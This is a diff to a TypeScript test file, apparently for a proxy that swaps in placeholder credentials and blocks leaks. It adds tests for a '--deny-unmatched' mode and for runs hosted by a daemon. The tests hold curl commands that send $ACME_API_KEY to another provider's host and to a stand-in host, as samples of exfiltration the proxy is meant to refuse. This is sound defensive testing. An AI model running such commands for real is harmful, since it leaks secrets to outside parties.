@@ -8,7 +8,7 @@
  * real HTTPS upstream.
  */
 import assert from "node:assert/strict";
-import { spawnSync } from "node:child_process";
+import { spawn, spawnSync } from "node:child_process";
 import https from "node:https";
 import type { AddressInfo } from "node:net";
 import tls from "node:tls";
@@ -16,7 +16,7 @@ import { writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { after, before, test } from "node:test";
 import { createCertificateAuthority, createMemoryCaStore } from "../../src/proxy/ca.ts";
-import { runCli, tempHome } from "../helpers/cli.ts";
+import { cliCommand, runCli, tempHome } from "../helpers/cli.ts";
 import { startHttpUpstream, startHttpsUpstream, type TestUpstream } from "../helpers/proxy-upstream.ts";
 import { repoRoot } from "../helpers/spawn-runtime.ts";
 
@@ -173,4 +173,39 @@ test("plain HTTP to an undeclared host (the proxy sees it in clear) trips too: q
   assert.equal(r.code, 0, r.stderr);
   assert.deepEqual(r.stdout.trim().split("\n"), ["403", "403"]);
   assert.equal(plain.requests.filter((q) => q.url.startsWith("/plain")).length, 0);
+});
+
+test("--deny-unmatched: the placeholder to another provider's host is an exfiltration; an undeclared host is refused outright", async () => {
+  const r = await runCli(["run", "--deny-unmatched", "--", "sh", "-c", `curl -sS -w '%{http_code}\\n' -H "X-Leak: $ACME_API_KEY" "${other}/deny-trip"; curl -sS -w '%{http_code}\\n' "https://nowhere.example.test/?k=$ACME_API_KEY"; echo done`], { env });
+  assert.equal(r.code, 0, r.stderr);
+  const lines = r.stdout.trim().split("\n");
+  assert.match(lines[0] ?? "", /acme placeholder .*exfiltration/);
+  assert.equal(lines[1], "403");
+  assert.deepEqual(lines.slice(-2), ["000", "done"], "CONNECT to an undeclared host is refused: no tunnel, blind or not");
+  assert.match(r.stderr, /CONNECT tunnel failed, response 403/);
+  assert.equal(received("/deny-trip").length, 0);
+});
+
+test("a run hosted by the daemon: the child's placeholders are the ones its proxy looks for", async () => {
+  const { command, args } = cliCommand();
+  const daemon = spawn(command, [...args, "serve", "--port", "0"], { env: { ...process.env, ...env, NO_COLOR: "1" }, stdio: ["ignore", "pipe", "pipe"] });
+  let daemonErr = "";
+  const exited = new Promise<void>((resolve) => daemon.on("close", () => resolve()));
+  try {
+    await new Promise<void>((resolve, reject) => {
+      const timer = setTimeout(() => reject(new Error(`the daemon did not start: ${daemonErr}`)), 30_000);
+      daemon.stderr.on("data", (d: Buffer) => {
+        daemonErr += d.toString();
+        if (daemonErr.includes("listening on")) (clearTimeout(timer), resolve());
+      });
+    });
+    const r = await run(["sh", "-c", `curl -sS -w '%{http_code}\\n' -H "X-Leak: $ACME_API_KEY" "${other}/daemon-trip"`]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stderr, /hosted by the daemon/);
+    assert.match(r.stdout, /acme placeholder .*exfiltration[^]*403/);
+    assert.equal(received("/daemon-trip").length, 0);
+  } finally {
+    daemon.kill("SIGTERM");
+  }
+  await exited;
 });
